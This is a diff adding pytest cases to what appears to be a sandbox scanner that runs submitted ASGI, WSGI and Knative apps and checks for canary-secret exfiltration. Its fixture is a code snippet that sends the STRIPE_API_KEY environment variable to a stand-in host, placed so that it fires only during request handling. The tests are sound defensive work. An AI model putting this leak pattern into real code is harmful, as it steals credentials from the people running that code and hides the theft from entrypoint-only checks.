@@ -304,3 +304,45 @@ async def test_a_canary_mailed_through_the_declared_relay_is_rejected(
     leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
     assert "env:AWS_SECRET_ACCESS_KEY" in leak.message
     assert "env:SMTP_PASSWORD" not in leak.message
+
+
+_LEAK = (
+    "    import os, urllib.request\n"
+    "    urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',\n"
+    "        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)\n"
+)
+#: code that leaks only when it answers a request, in each interface whose entrypoint is an
+#: app, not an ``(event, context)`` handler: the harness must call it as its adapter would
+APPS = {
+    "asgi": (
+        "app.app",
+        "async def app(scope, receive, send):\n"
+        "    if scope['type'] != 'http':\n"
+        "        return\n" + _LEAK,
+    ),
+    "wsgi": (
+        "app.app",
+        "def app(environ, start_response):\n"
+        + _LEAK
+        + "    start_response('200 OK', [])\n    return [b'ok']\n",
+    ),
+    "knative": (
+        "app.new",
+        "class Function:\n"
+        "    async def handle(self, scope, receive, send):\n"
+        + _LEAK.replace("\n    ", "\n        ").replace("    import", "        import", 1)
+        + "def new():\n    return Function()\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("interface", sorted(APPS))
+async def test_a_leak_in_an_apps_request_handling_is_rejected(
+    tmp_path: Path, interface: str
+) -> None:
+    entrypoint, source = APPS[interface]
+    code = _code(tmp_path, {"app.py": source})
+    plan = Detonation(interface=interface)
+    stage = await detonate(code, "python3.11", entrypoint, plan)
+    assert stage.verdict is Verdict.REJECT, stage
+    assert "detonation-canary-exfiltration" in _rules(stage)
